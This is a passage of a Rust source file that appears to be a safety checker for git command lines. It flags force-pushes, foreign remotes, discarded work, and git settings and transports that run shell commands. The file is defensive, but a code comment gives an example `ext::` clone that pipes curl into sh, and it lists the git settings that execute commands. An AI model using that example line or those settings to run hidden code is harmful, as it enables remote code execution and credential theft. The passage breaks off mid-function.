//! git: pushes (to the repository's own remote, forced, deleting, publishing, mirrored, or
//! anywhere else), remotes, what throws away uncommitted work, and the settings git runs as
//! commands (`git -c core.pager=…`, `git config alias.x '!…'`, `GIT_CONFIG_KEY_0`).

use super::{Scan, has_flag, host_names, positional};

mod extras;
use crate::facts::Remote;
use crate::law::rule::RuleId;
use crate::shell::Command;
use crate::verdict::{Harm, Risk};
use crate::wish::{Act, Name, Wish};

/// Options of git itself that take a value.
const VALUED: &[&str] = &[
    "-C",
    "-c",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "--exec-path",
    "--config-env",
];

/// Branches others share: a force-push over one is said so.
const SHARED: &[&str] = &[
    "main",
    "master",
    "develop",
    "dev",
    "trunk",
    "production",
    "prod",
    "release",
    "staging",
];

/// Branches that publish what is pushed to them.
const PUBLISHING: &[&str] = &["gh-pages", "pages"];

/// git's settings whose value git runs as a shell command, by section and name (lower case;
/// `*` is any name: `alias.<name>`, `pager.<command>`). A subsection doesn't matter
/// (`diff.<driver>.textconv`, `credential.<url>.helper`). Sorted, checked by a test.
#[rustfmt::skip]
pub(super) const RUNS_SETTINGS: &[(&str, &str)] = &[
    ("alias", "*"), ("browser", "cmd"), ("core", "alternaterefscommand"), ("core", "askpass"),
    ("core", "editor"), ("core", "fsmonitor"), ("core", "gitproxy"), ("core", "pager"), ("core", "sshcommand"),
    ("credential", "helper"), ("diff", "command"), ("diff", "external"), ("diff", "textconv"), ("difftool", "cmd"),
    ("filter", "clean"), ("filter", "process"), ("filter", "smudge"), ("gpg", "program"),
    ("interactive", "difffilter"), ("man", "cmd"), ("merge", "driver"), ("mergetool", "cmd"), ("pager", "*"),
    ("sendemail", "sendmailcmd"), ("sequence", "editor"), ("uploadpack", "packobjectshook"),
];

/// Values that turn a setting on or off rather than name a command (`core.fsmonitor=true`).
const SWITCHES: &[&str] = &["0", "1", "false", "no", "off", "on", "true", "yes"];

/// The settings a git command sets, as (key, value): `-c key=value` for this command,
/// `GIT_CONFIG_KEY_n`/`GIT_CONFIG_VALUE_n` in its environment, and `git config [set] key value`.
fn settings(cmd: &Command) -> Vec<(String, String)> {
    let mut out = Vec::new();
    if cmd.program() != "git" {
        return out;
    }
    let mut index = 1;
    while let Some(word) = cmd.words.get(index) {
        if word == "-c" {
            if let Some((key, value)) = cmd.words.get(index + 1).and_then(|kv| kv.split_once('=')) {
                out.push((key.to_string(), value.to_string()));
            }
            index += 2;
        } else if VALUED.contains(&word.as_str()) {
            index += 2;
        } else if word.starts_with('-') {
            index += 1;
        } else {
            break;
        }
    }
    for (name, key) in &cmd.assignments {
        if let Some(n) = name.strip_prefix("GIT_CONFIG_KEY_") {
            let value_name = format!("GIT_CONFIG_VALUE_{n}");
            if let Some((_, value)) = cmd.assignments.iter().find(|(v, _)| *v == value_name) {
                out.push((key.clone(), value.clone()));
            }
        }
    }
    if subcommand(cmd) == Some("alias")
        && let [name, value, ..] = positional(sub_args(cmd)).as_slice()
    {
        out.push((format!("alias.{name}"), (*value).to_string()));
    }
    if subcommand(cmd) == Some("config") {
        const CONFIG_VALUED: &[&str] =
            &["-f", "--file", "--blob", "--type", "--default", "--comment"];
        let mut words = Vec::new();
        let mut skip = false;
        for arg in sub_args(cmd) {
            if skip {
                skip = false;
            } else if CONFIG_VALUED.contains(&arg.as_str()) {
                skip = true;
            } else if !arg.starts_with('-') {
                words.push(arg.as_str());
            }
        }
        let unsets = sub_args(cmd)
            .iter()
            .any(|a| a.starts_with("--unset") || a.starts_with("--get") || a == "--list");
        let pair = match words.as_slice() {
            ["set", key, value, ..] => Some((key, value)),
            [key, value, ..]
                if !matches!(
                    *key,
                    "get" | "unset" | "list" | "edit" | "rename-section" | "remove-section"
                ) =>
            {
                Some((key, value))
            }
            _ => None,
        };
        if let (Some((key, value)), false) = (pair, unsets) {
            out.push((key.to_string(), value.to_string()));
        }
    }
    out
}

/// The shell text a setting's value is when git runs it, if the setting is one git runs.
pub(crate) fn setting_command(key: &str, value: &str) -> Option<String> {
    // `section[.subsection].name`: the subsection (a driver, a remote, a URL) doesn't matter.
    let lower = key.to_ascii_lowercase();
    let (section, _) = lower.split_once('.')?;
    let name = lower.rsplit('.').next().unwrap_or("");
    let runs = RUNS_SETTINGS
        .iter()
        .any(|(s, k)| *s == section && (*k == name || *k == "*"));
    let value = value.trim();
    if !runs || value.is_empty() || SWITCHES.contains(&value.to_ascii_lowercase().as_str()) {
        return None;
    }
    match section {
        // An alias runs the shell only when it starts with `!`; else it is git's own words.
        "alias" => value.strip_prefix('!').map(str::to_string),
        // A helper runs the shell with `!`, or is a program by its path; else `git credential-…`.
        // What git gives it on its input is the person's password or token (`store`, `erase`),
        // so it is read as fed one: a helper that sends its input somewhere sends a secret.
        "credential" => {
            let text = match value.strip_prefix('!') {
                Some(text) => text,
                None if value.starts_with('/') => value,
                None => return None,
            };
            Some(format!("echo \"$GIT_PASSWORD\" | {{ {text}\n}}"))
        }
        _ => Some(value.to_string()),
    }
}

/// The shell commands git runs from the settings this command sets (`git -c core.pager=…
/// log`, `git config alias.x '!…'`): each is judged as a line of its own.
pub(super) fn settings_run(cmd: &Command) -> Vec<String> {
    let mut out: Vec<String> = settings(cmd)
        .iter()
        .filter_map(|(key, value)| setting_command(key, value))
        .collect();
    out.extend(transport_commands(cmd));
    out.extend(subcommand_commands(cmd));
    out
}

/// Shell lines a subcommand runs by its own words: `rebase -x CMD`, `submodule foreach CMD`,
/// `bisect run CMD ARGS`, `filter-branch --tree-filter CMD` (and its other filters),
/// `difftool -x CMD` (`--exec`, `--exec=` are `transport_commands`').
fn subcommand_commands(cmd: &Command) -> Vec<String> {
    if cmd.program() != "git" {
        return Vec::new();
    }
    let args = sub_args(cmd);
    // The words after the first that isn't an option, joined as git joins them.
    let rest_after = |at: usize| {
        let rest: Vec<&String> = args
            .get(at..)
            .unwrap_or(&[])
            .iter()
            .skip_while(|a| a.starts_with('-'))
            .collect();
        (!rest.is_empty()).then(|| {
            rest.iter()
                .map(|w| w.as_str())
                .collect::<Vec<_>>()
                .join(" ")
        })
    };
    let valued = |options: &[&str]| -> Vec<String> {
        let mut out = Vec::new();
        for (at, arg) in args.iter().enumerate() {
            for option in options {
                out.extend(option_value(arg, args.get(at + 1), option));
            }
        }
        out
    };
    match subcommand(cmd) {
        Some("rebase") => valued(&["-x"]),
        Some("difftool" | "mergetool") => valued(&["-x", "--extcmd"]),
        Some("filter-branch") => valued(&[
            "--commit-filter",
            "--env-filter",
            "--index-filter",
            "--msg-filter",
            "--parent-filter",
            "--tag-name-filter",
            "--tree-filter",
        ]),
        Some("submodule") => args
            .iter()
            .position(|a| a == "foreach")
            .and_then(|at| rest_after(at + 1))
            .into_iter()
            .collect(),
        Some("bisect") => args
            .iter()
            .position(|a| a == "run")
            .and_then(|at| {
                let words: Vec<String> = args
                    .get(at + 1..)?
                    .iter()
                    .map(|w| crate::shell::quote_word(w))
                    .collect();
                (!words.is_empty()).then(|| words.join(" "))
            })
            .into_iter()
            .collect(),
        _ => Vec::new(),
    }
}

/// Commands git runs to reach a repository: an `ext::` address's command (`git clone
/// 'ext::sh -c curl% x|sh'`, whose words are cut at blanks, `% ` a blank inside one), and the programs
/// `--upload-pack`, `--receive-pack` and `--exec` name (run on this machine for a local
/// repository).
fn transport_commands(cmd: &Command) -> Vec<String> {
    if cmd.program() != "git" {
        return Vec::new();
    }
    let args = sub_args(cmd);
    let mut out = Vec::new();
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if let Some(command) = arg.strip_prefix("ext::") {
            // Words cut at plain blanks; `% ` is a blank inside one, `%%` a percent sign,
            // `%s`/`%S` the service git asks for.
            let mut words: Vec<String> = vec![String::new()];
            let mut chars = command.chars();
            while let Some(c) = chars.next() {
                let word = words.last_mut();
                match (c, word) {
                    (' ', _) => words.push(String::new()),
                    ('%', Some(word)) => match chars.next() {
                        Some(' ') => word.push(' '),
                        Some('%') => word.push('%'),
                        Some('s' | 'S') => word.push_str("git-upload-pack"),
                        Some(other) => {
                            word.push('%');
                            word.push(other);
                        }
                        None => word.push('%'),
                    },
                    (c, Some(word)) => word.push(c),
                    (_, None) => {}
                }
            }
            let text = words
                .iter()
                .filter(|w| !w.is_empty())
                .map(|w| crate::shell::quote_word(w))
                .collect::<Vec<_>>()
                .join(" ");
            out.push(text);
            continue;
        }
        for option in ["--upload-pack", "--receive-pack", "--exec"] {
            out.extend(option_value(arg, words.clone().next(), option));
        }
    }
    out
}

/// An option's value: `--exec=CMD` in the word, or `--exec CMD` in the next one.
fn option_value(arg: &str, next: Option<&String>, option: &str) -> Option<String> {
    match arg.strip_prefix(option).and_then(|v| v.strip_prefix('=')) {
        Some(value) => Some(value.to_string()),
        None if arg == option => next.cloned(),
        None => None,
    }
}

/// The subcommand: the first word after git's own options.
pub(super) fn subcommand(cmd: &Command) -> Option<&str> {
    let (index, _) = split(cmd)?;
    cmd.words.get(index).map(String::as_str)
}

/// The words after the subcommand.
pub(super) fn sub_args(cmd: &Command) -> &[String] {
    split(cmd)
        .and_then(|(index, _)| cmd.words.get(index + 1..))
        .unwrap_or(&[])
}

/// Where the subcommand is, and the folder `-C` names (if any).
fn split(cmd: &Command) -> Option<(usize, Option<&str>)> {
    if cmd.program() != "git" {
        return None;
    }
    let mut dir = None;
    let mut index = 1;
    while let Some(word) = cmd.words.get(index) {
        if VALUED.contains(&word.as_str()) {
            if word == "-C" {
                dir = cmd.words.get(index + 1).map(String::as_str);
            }
            index += 2;
        } else if word.starts_with('-') {
            index += 1;
        } else {
            return Some((index, dir));
        }
    }
    None
}

/// `git branch -D x` (`--delete --force`, `-df`), or `git update-ref -d refs/heads/x`: a
/// branch deleted with its commits, merged or not.
fn forces_branch_delete(sub: &str, args: &[String]) -> bool {
    let named = !positional(args).is_empty();
    match sub {
        "branch" => {
            named
                && (args
                    .iter()
                    .any(|a| !a.starts_with("--") && a.starts_with('-') && a.contains('D'))
                    || (has_flag(args, Some('d'), &["delete"])
                        && has_flag(args, Some('f'), &["force"])))
        }
        "update-ref" => {
            has_flag(args, Some('d'), &[])
                && positional(args)
                    .first()
                    .is_some_and(|r| r.starts_with("refs/heads/"))
        }
        _ => false,
    }
}

/// `git branch`, `tag`, `remote`, `stash`, `config`, `worktree`, `reflog` that only list.
pub(super) fn lists_only(sub: &str, rest: &[&str]) -> bool {
    let positional: Vec<&&str> = rest.iter().filter(|arg| !arg.starts_with('-')).collect();
    match sub {
        "branch" | "tag" => {
            positional.is_empty()
                || rest.iter().any(|arg| {
                    matches!(
                        *arg,
                        "-l" | "--list" | "--contains" | "--merged" | "--show-current"
                    )
                })
        }
        "remote" => {
            positional.is_empty()
                || matches!(positional.first().map(|s| **s), Some("show" | "get-url"))
        }
        "stash" => matches!(positional.first().map(|s| **s), Some("list" | "show")),
        // A key alone is read, not set (`git config --global user.name`), as are git 2.46's
        // `get` and `list`; an option that writes (`--unset`, `--add`, `-e`) is a change.
        "config" => {
            let reads = rest.iter().any(|arg| {
                matches!(
                    *arg,
                    "--get"
                        | "--list"
                        | "-l"
                        | "--get-all"
                        | "--get-regexp"
                        | "--get-urlmatch"
                        | "--get-color"
                        | "--get-colorbool"
                )
            });
            let writes = rest.iter().any(|arg| {
                matches!(
                    *arg,
                    "--add"
                        | "--unset"
                        | "--unset-all"
                        | "--replace-all"
                        | "--rename-section"
                        | "--remove-section"
                        | "-e"
                        | "--edit"
                )
            });
            let key_alone = positional.len() == 1
                && !matches!(
                    positional.first().map(|s| **s),
                    Some("set" | "unset" | "edit")
                );
            let subcommand_reads = matches!(positional.first().map(|s| **s), Some("get" | "list"));
            reads || (!writes && (key_alone || subcommand_reads))
        }
        "worktree" => matches!(positional.first().map(|s| **s), Some("list")),
        "reflog" => {
            positional.is_empty() || matches!(positional.first().map(|s| **s), Some("show"))
        }
        _ => false,
    }
}

pub(super) fn judge(cmd: &Command, scan: &mut Scan<'_>) {
    let Some((index, dir)) = split(cmd) else {
        return;
    };
    let sub = cmd.words.get(index).map(String::as_str).unwrap_or("");
    let args = cmd.words.get(index + 1..).unwrap_or(&[]);
    let folder = dir
        .and_then(|dir| scan.place.resolve(dir))
        .unwrap_or_else(|| scan.place.cwd.to_string());
    hooks_outside(cmd, scan);
    runs_file_outside(cmd, scan);
    match sub {
        // `git -c remote.origin.url=URL push origin main`: the remote's address is the one
        // the line gives, whatever the repository keeps under that name.
        "push" if let Some(url) = url_given(cmd, index) => {
            match where_to(&url, scan.facts.remotes(&folder).as_deref()) {
                Whereto::Own(_) => push(args, &folder, scan),
                _ => foreign_push(&url, scan),
            }
        }
        "push" => push(args, &folder, scan),
        // `git subtree push --prefix=lib REPOSITORY REF`: a push to REPOSITORY.
        "subtree" if positional(args).first() == Some(&"push") => {
            // Its own options' values (`--prefix dist`, `-m MSG`) are no repository.
            let mut rest: Vec<String> = Vec::new();
            let mut words = args.iter().skip_while(|a| *a != "push").skip(1);
            while let Some(word) = words.next() {
                if matches!(word.as_str(), "-P" | "--prefix" | "-m" | "--message") {
                    words.next();
                } else if !word.starts_with('-') {
                    rest.push(word.clone());
                }
            }
            push(&rest, &folder, scan);
        }
        "remote" => remote(args, scan),
        "reset" if has_flag(args, None, &["hard"]) => discard("git reset --hard", &folder, scan),
        // `-n` (`--dry-run`) only lists what it would remove, whatever `-f` says.
        "clean"
            if has_flag(args, Some('f'), &["force"])
                && !has_flag(args, Some('n'), &["dry-run"]) =>
        {
            discard("git clean", &folder, scan)
        }
        "checkout" | "restore" if touches_everything(sub, args) => {
            discard(&format!("git {sub} ."), &folder, scan)
        }
        // The plumbing under them: `git read-tree -u --reset`/`-m` writes a tree's files over
        // the working tree's, `git checkout-index -f` the index's, `git switch -f` as
        // `git checkout -f`.
        "read-tree"
            if has_flag(args, Some('u'), &[])
                && (has_flag(args, None, &["reset"]) || has_flag(args, Some('m'), &[])) =>
        {
            discard("git read-tree -u", &folder, scan)
        }
        "checkout-index" if has_flag(args, Some('f'), &["force"]) => {
            discard("git checkout-index -f", &folder, scan)
        }
        "switch" if has_flag(args, Some('f'), &["force", "discard-changes"]) => {
            discard("git switch --discard-changes", &folder, scan)
        }
        // A worktree removed by force goes with its uncommitted work.
        "worktree"
            if positional(args).first() == Some(&"remove")
                && has_flag(args, Some('f'), &["force"]) =>
        {
            let tree = positional(args)
                .get(1)
                .and_then(|path| scan.place.resolve(path))
                .unwrap_or_else(|| folder.clone());
            discard("git worktree remove --force", &tree, scan)
        }
        "stash" if matches!(positional(args).first(), Some(&"clear" | &"drop")) => {
            scan.add(
                Risk::new(
                    RuleId::GitDiscard,
                    Harm::Severe,
                    false,
                    "throw away stashed work (git stash clear/drop)",
                )
                .wish(Wish::new(Act::Discard)),
            );
        }
        // `git branch -D x` deletes a branch whether or not another holds its commits (`-d`
        // refuses then): what only it held is left to the reflog, as a stash dropped is.
        // `git update-ref -d refs/heads/x` is the same under it.
        "branch" | "update-ref" if forces_branch_delete(sub, args) => {
            let names: Vec<String> = positional(args)
                .iter()
                .map(|b| b.trim_start_matches("refs/heads/").to_string())
                .collect();
            scan.add(
                Risk::new(
                    RuleId::GitDiscard,
                    Harm::Severe,
                    false,
                    format!(
                        "delete the branch {} whether or not its commits are merged (git {sub})",
                        names.join(", ")
                    ),
                )
                .wish(Wish::new(Act::Delete).naming(Name::AnyOf(names))),
            );
        }
        // `git reflog expire --expire=now --all`, `git gc --prune=now`: commits a reset, a
        // rebase or a deleted branch left behind, which only the reflog still kept, go.
        "reflog" | "gc" if drops_unreachable(sub, args) => scan.add(
            Risk::new(
                RuleId::GitDiscard,
                Harm::Severe,
                false,
                format!("throw away what only git's reflog still keeps (git {sub}): commits reset, rebased or deleted can't be got back"),
            )
            .wish(Wish::new(Act::Discard)),
        ),
        "filter-branch" | "filter-repo" => scan.add(
            Risk::new(
                RuleId::GitRewriteHistory,
                Harm::Severe,
                false,
                "rewrite the repository's whole history",
            )
            .wish(Wish::new(Act::ForcePush)),
        ),
        // `git config remote.origin.pushurl URL`, `git config url.URL.insteadOf X`: where
        // pushes go, as `git remote set-url` says it.
        "config" if config_remote(args, scan) => {}
        "config" if sets_everyones(cmd, scan) && !lists_only("config", &strs(args)) =>
        {
            scan.add(
                Risk::new(
                    RuleId::GitConfigGlobal,
                    Harm::Moderate,
                    true,
                    "change git's settings for every repository",
                )
                .wish(Wish::new(Act::Update)),
            )
        }
        // git-extras' `git alias NAME VALUE` sets `alias.NAME` for every repository unless
        // `--local` (what the alias runs is read with the settings, below).
        "alias" if positional(args).len() >= 2 && !has_flag(args, None, &["local"]) => scan.add(
            Risk::new(
                RuleId::GitConfigGlobal,
                Harm::Moderate,
                true,
                "change git's settings for every repository (git alias)",
            )
            .wish(Wish::new(Act::Update)),
        ),
        _ => extras::judge(sub, args, &folder, scan),
    }
    if matches!(
        sub,
        "push" | "fetch" | "pull" | "clone" | "ls-remote" | "remote" | "submodule"
    ) {
        scan.network = true;
    }
}

/// `core.hooksPath` pointed outside the work folder: hooks from there run by themselves at
/// every commit, merge and checkout.
fn hooks_outside(cmd: &Command, scan: &mut Scan<'_>) {
    for (key, dir) in settings(cmd) {
        if !key.eq_ignore_ascii_case("core.hookspath") {
            continue;
        }
        if outside_work(&dir, scan) {
            let (harm, reach) = reach(cmd, scan, "outside the work folder");
            runs_by_itself(
                scan,
                harm,
                format!("make git run the hooks in {dir}, {reach}, by themselves at every commit"),
                &dir,
            );
        }
    }
}

/// A setting kept by `git config` that git runs by itself (`diff.external`, `core.fsmonitor`,
/// `gpg.program`, a driver's `textconv`, a filter's `smudge`), naming a file by its path
/// outside the work folder and the system's program folders (`/tmp/x`, `~/.cache/x`,
/// `$DIR/x`): what that file holds runs at every diff, status or checkout from then on, as a
/// hook from outside does. Its text is judged as a line of its own too (`settings_run`); an
/// alias runs only when called by its name, and `git -c` only for the command it is given.
fn runs_file_outside(cmd: &Command, scan: &mut Scan<'_>) {
    if subcommand(cmd) != Some("config") {
        return;
    }
    for (key, value) in settings(cmd) {
        let lower = key.to_ascii_lowercase();
        if lower.starts_with("alias.") || setting_command(&key, &value).is_none() {
            continue;
        }
        let value = value.trim();
        let value = value.strip_prefix('!').unwrap_or(value).trim_start();
        let Some(program) = crate::shell::Line::parse(value)
            .commands
            .first()
            .and_then(|first| first.words.first().cloned())
        else {
            continue;
        };
        if !super::is_own_file(&program) {
            continue;
        }
        if !outside_work(&program, scan) {
            continue;
        }
        let (harm, reach) = reach(cmd, scan, "in this repository");
        runs_by_itself(
            scan,
            harm,
            format!("make git run {program}, outside the work folder, by itself {reach} ({key})"),
            &program,
        );
    }
}

/// What git will run by itself from now on (`persist.git_hooks`), asked for by the name of
/// the file or folder it runs.
fn runs_by_itself(scan: &mut Scan<'_>, harm: Harm, reason: String, path: &str) {
    let name = super::paths::basename_of(path).to_string();
    scan.add(
        Risk::new(RuleId::PersistGitHooks, harm, true, reason)
            .wish(Wish::new(Act::Update).naming(Name::one(name))),
    );
}

/// Is `path` outside the work folder, or only known when it runs?
fn outside_work(path: &str, scan: &Scan<'_>) -> bool {
    scan.place
        .resolve(path)
        .is_none_or(|abs| !scan.place.inside_work(&abs))
}

/// How far a setting git acts on by itself reaches: set for every repository of the person
/// (`--global`, `--system`, or `--file` naming the person's or the system's git config:
/// `git config -f ~/.gitconfig …`), what it runs runs anywhere (severe); else `here`
/// (moderate).
fn reach(cmd: &Command, scan: &Scan<'_>, here: &'static str) -> (Harm, &'static str) {
    if sets_everyones(cmd, scan) {
        (Harm::Severe, "in every repository")
    } else {
        (Harm::Moderate, here)
    }
}

/// Does `git config` write the settings of every repository: `--global`, `--system`, or
/// `--file` naming the person's or the system's git config (`-f ~/.gitconfig`,
/// `--file=/etc/gitconfig`)?
fn sets_everyones(cmd: &Command, scan: &Scan<'_>) -> bool {
    let args = cmd.args();
    if args
        .iter()
        .any(|a| matches!(a.as_str(), "--global" | "--system"))
    {
        return true;
    }
    let file = super::option_values(args, &["-f", "--file"])
        .first()
        .copied();
    let home = scan.place.home.trim_end_matches('/');
    file.and_then(|file| scan.place.resolve(file))
        .is_some_and(|abs| {
            abs == format!("{home}/.gitconfig")
                || abs == format!("{home}/.config/git/config")
                || abs == "/etc/gitconfig"
        })
}

fn strs(args: &[String]) -> Vec<&str> {
    args.iter().map(String::as_str).collect()
}

/// `git checkout .`, `git checkout -- .`, `git restore .` (the working tree, not only staged).
fn touches_everything(sub: &str, args: &[String]) -> bool {
    let paths = positional(args);
    if sub == "restore"
        && has_flag(args, Some('S'), &["staged"])
        && !has_flag(args, Some('W'), &["worktree"])
    {
        return false;
    }
    let everything = paths
        .iter()
        .any(|path| matches!(*path, "." | "*" | ":/" | "./"));
    everything || (sub == "checkout" && has_flag(args, Some('f'), &["force"]))
}

fn discard(what: &str, folder: &str, scan: &mut Scan<'_>) {
    match scan.facts.tree_clean(folder) {
        // Nothing to lose, nothing to ask.
        Some(true) => {}
        known => {
            let state = if known.is_some() {
                "uncommitted changes"
            } else {
                "whatever is uncommitted"
            };
            // Undo keeps the work folder's files; a repository elsewhere (`git -C ~ clean
            // -fdx`, a dotfiles repository in the home folder) loses them for good.
            let place = scan.place;
            let outside = place
                .resolve(folder)
                .is_some_and(|abs| !place.inside_work(&abs) && !crate::law::paths::is_temp(&abs));
            let lost = if outside {
                ", which Undo can't bring back"
            } else {
                ""
            };
            scan.add(
                Risk::new(
                    RuleId::GitDiscard,
                    Harm::Severe,
                    outside,
                    format!("{what} throws away {state} in {folder}{lost}"),
                )
                .wish(Wish::new(Act::Discard)),
            );
        }
    }
}

/// Options of `git push` that take a separate value.
const PUSH_VALUED: &[&str] = &["-o", "--push-option", "--repo", "--receive-pack", "--exec"];

/// A `.env` file (not an example of one) the line adds to git (`git add .env`, `git add -f
/// config/.env.production`), by its name as written.
fn env_added(scan: &Scan<'_>) -> Option<String> {
    scan.line.commands.iter().find_map(|cmd| {
        let (index, _) = split(cmd)?;
        if cmd.words.get(index).map(String::as_str) != Some("add") {
            return None;
        }
        cmd.words.get(index + 1..)?.iter().find_map(|arg| {
            let name = arg.rsplit('/').next().unwrap_or(arg);
            let example = [".example", ".sample", ".template", ".dist"]
                .iter()
                .any(|end| name.ends_with(end));
            (!arg.starts_with('-') && name.starts_with(".env") && !example).then(|| arg.clone())
        })
    })
}

/// A push to somewhere that is not one of the repository's remotes: never lifted.
fn foreign_push(target: &str, scan: &mut Scan<'_>) {
    scan.add(
        Risk::new(
            RuleId::GitForeignRemote,
            Harm::Severe,
            true,
            format!("push to {target}, which is not one of this repository's remotes"),
        )
        .never()
        .way_out(),
    );
}

/// A remote's address the line sets for this one run (`git -c remote.origin.url=URL`,
/// `-c remote.x.pushurl=URL`, `--config-env` aside), before the subcommand at `index`.
fn url_given(cmd: &Command, index: usize) -> Option<String> {
    let globals = cmd.words.get(1..index).unwrap_or(&[]);
    globals.iter().enumerate().find_map(|(at, word)| {
        let setting = match word.strip_prefix("-c") {
            Some("") => globals.get(at + 1)?.as_str(),
            Some(rest) => rest,
            None => return None,
        };
        let (key, value) = setting.split_once('=')?;
        let key = key.to_ascii_lowercase();
        (key.starts_with("remote.") && (key.ends_with(".url") || key.ends_with(".pushurl")))
            .then(|| value.to_string())
    })
}

fn push(args: &[String], folder: &str, scan: &mut Scan<'_>) {
    if has_flag(args, Some('n'), &["dry-run"]) {
        return;
    }
    // `git add .env && git commit -m x && git push`: the project's secrets leave with the
    // commit, to whatever remote, as a send of the file would.
    if let Some(env) = env_added(scan) {
        super::net::env_leaves(scan, &format!("push {env}, which the line commits"));
    }
    let mut words = Vec::new();
    let mut skip = false;
    for arg in args {
        if skip {
            skip = false;
        } else if PUSH_VALUED.contains(&arg.as_str()) {
            skip = true;
        } else if !arg.starts_with('-') || arg == "-" {
            words.push(arg.as_str());
        }
    }
    let forced = has_flag(
        args,
        Some('f'),
        &["force", "force-with-lease", "force-if-includes"],
    );
    let deleting = has_flag(args, Some('d'), &["delete"]);
    let mirror = has_flag(args, None, &["mirror"]);
    let target = words.first().copied();
    let refspecs = words.get(1..).unwrap_or(&[]);

    // Where it goes.
    let remote_name = match target {
        None => "the current branch's remote".to_string(),
        Some(target) => match where_to(target, scan.facts.remotes(folder).as_deref()) {
            Whereto::Own(name) => name,
            Whereto::Foreign => {
                foreign_push(target, scan);
                return;
            }
            Whereto::Unverified => {
                scan.add(
                    Risk::new(
                        RuleId::GitUnverifiedRemote,
                        Harm::Severe,
                        true,
                        format!("push to {target}, a remote warden could not check against this repository's"),
                    )
                    .way_out()
                    .wish(Wish::new(Act::Push).naming(Name::one(target))),
                );
                return;
            }
        },
    };

    // `--prune` deletes every branch there that has no counterpart here, among those the
    // refspecs (or the configured ones) reach: branches others pushed go with it.
    if has_flag(args, None, &["prune"]) && !mirror {
        scan.add(
            Risk::new(
                RuleId::GitDeleteBranch,
                Harm::Severe,
                true,
                format!(
                    "delete the branches on {remote_name} that are not here (git push --prune)"
                ),
            )
            .way_out()
            .wish(Wish::new(Act::Delete).naming(Name::AnyOf(vec![
                "branches".to_string(),
                "prune".to_string(),
            ]))),
        );
    }
    if mirror {
        scan.add(
            Risk::new(
                RuleId::GitMirror,
                Harm::Severe,
                true,
                format!("mirror every branch and tag to {remote_name}, deleting what is not here"),
            )
            .way_out()
            .wish(Wish::new(Act::Mirror)),
        );
        return;
    }

    let mut named_any = false;
    for spec in refspecs {
        let forced_spec = spec.starts_with('+');
        let spec = spec.trim_start_matches('+');
        let (src, dst) = spec.split_once(':').unwrap_or((spec, spec));
        let branch = dst.trim_start_matches("refs/heads/");
        if branch.is_empty() {
            continue;
        }
        named_any = true;
        if deleting || src.is_empty() {
            scan.add(
                Risk::new(
                    RuleId::GitDeleteBranch,
                    Harm::Severe,
                    true,
                    match branch.strip_prefix("refs/tags/") {
                        Some(tag) => format!("delete the tag {tag} on {remote_name}"),
                        None => format!("delete the branch {branch} on {remote_name}"),
                    },
                )
                .way_out()
                .wish(Wish::new(Act::Delete).naming(Name::one(branch))),
            );
        } else if forced || forced_spec {
            scan.add(force(branch, &remote_name));
        } else if PUBLISHING.contains(&branch) {
            scan.add(
                Risk::new(
                    RuleId::GitPublishBranch,
                    Harm::Severe,
                    true,
                    format!("push to {branch}, which publishes the site"),
                )
                .way_out()
                .wish(Wish::new(Act::Push).naming(Name::one(branch))),
            );
        } else {
            // The branch it goes to: a boundary on it ("but not to main") holds this push,
            // and only this one.
            let mut push = plain(&format!("push {branch} to {remote_name}"));
            push.wish = push.wish.map(|wish| wish.targeting(Name::one(branch)));
            scan.add(push);
        }
    }
    if !named_any {
        if forced {
            scan.add(
                Risk::new(
                    RuleId::GitForcePush,
                    Harm::Severe,
                    true,
                    format!(
                        "force-push the current branch to {remote_name}, overwriting what is there"
                    ),
                )
                .way_out()
                .wish(Wish::new(Act::ForcePush)),
            );
        } else {
            scan.add(plain(&format!("push to {remote_name}")));
        }
    }
}

fn force(branch: &str, remote: &str) -> Risk {
    let reason = if SHARED.contains(&branch) {
        format!("force-push over {branch}, which others share")
    } else {
        format!("force-push {branch} to {remote}, overwriting what is there")
    };
    Risk::new(RuleId::GitForcePush, Harm::Severe, true, reason)
        .way_out()
        .wish(Wish::new(Act::ForcePush).naming(Name::one(branch)))
}

fn plain(reason: &str) -> Risk {
    Risk::new(RuleId::GitPush, Harm::Moderate, true, reason.to_string())
        .way_out()
        .wish(Wish::new(Act::Push))
}

enum Whereto {
    Own(String),
    Foreign,
    Unverified,
}

fn where_to(target: &str, remotes: Option<&[Remote]>) -> Whereto {
    let is_url = target.contains("://")
        || target.contains('@')
        || target.starts_with('/')
        || target.starts_with('.')
        || target.contains(':');
    match remotes {
        Some(remotes) => {
            let own = remotes
                .iter()
                .find(|remote| remote.name == target || same_url(&remote.url, target));
            match own {
                Some(remote) => Whereto::Own(remote.name.clone()),
                None => Whereto::Foreign,
            }
        }
        None if is_url => Whereto::Foreign,
        None if target == "origin" => Whereto::Own("origin".to_string()),
        None => Whereto::Unverified,
    }
}

fn same_url(a: &str, b: &str) -> bool {
    let clean = |url: &str| {
        url.trim_end_matches('/')
            .trim_end_matches(".git")
            .to_lowercase()
    };
    clean(a) == clean(b)
}

/// The host of a git URL (`git@github.com:a/b.git`, `https://github.com/a/b`).
pub(super) fn url_host(url: &str) -> Option<String> {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let rest = rest.rsplit_once('@').map_or(rest, |(_, host)| host);
    let host = rest.split(['/', ':']).next().unwrap_or("");
    (!host.is_empty() && host.contains('.')).then(|| host.to_lowercase())
}

/// `git reflog expire` or `git gc` told to drop now what nothing reaches (`--expire=now`,
/// `--expire-unreachable=all`, `--prune=now`), not by the usual weeks.
fn drops_unreachable(sub: &str, args: &[String]) -> bool {
    let now = |value: &str| matches!(value, "now" | "all" | "0");
    let option = |name: &str| {
        args.iter()
            .filter_map(|a| a.strip_prefix(name)?.strip_prefix('='))
            .any(now)
    };
    match sub {
        "reflog" => {
            positional(args).first() == Some(&"expire")
                && (option("--expire") || option("--expire-unreachable"))
        }
        _ => option("--prune"),
    }
}

/// A remote's address set through `git config`: `remote.NAME.url` or `.pushurl` (a remote
/// added or pointed elsewhere), or `url.BASE.insteadOf`/`.pushInsteadOf` (every address that
/// starts with the value rewritten to BASE). Whether it added the risk.
fn config_remote(args: &[String], scan: &mut Scan<'_>) -> bool {
    let words = positional(args);
    let (Some(key), Some(value)) = (words.first(), words.get(1)) else {
        return false;
    };
    let lower = key.to_ascii_lowercase();
    let (name, url, reason) = if let Some(rest) = lower.strip_prefix("remote.") {
        let Some(name) = rest
            .strip_suffix(".url")
            .or_else(|| rest.strip_suffix(".pushurl"))
        else {
            return false;
        };
        (
            name.to_string(),
            value.to_string(),
            format!("point the remote {name} at {value}, where pushes go"),
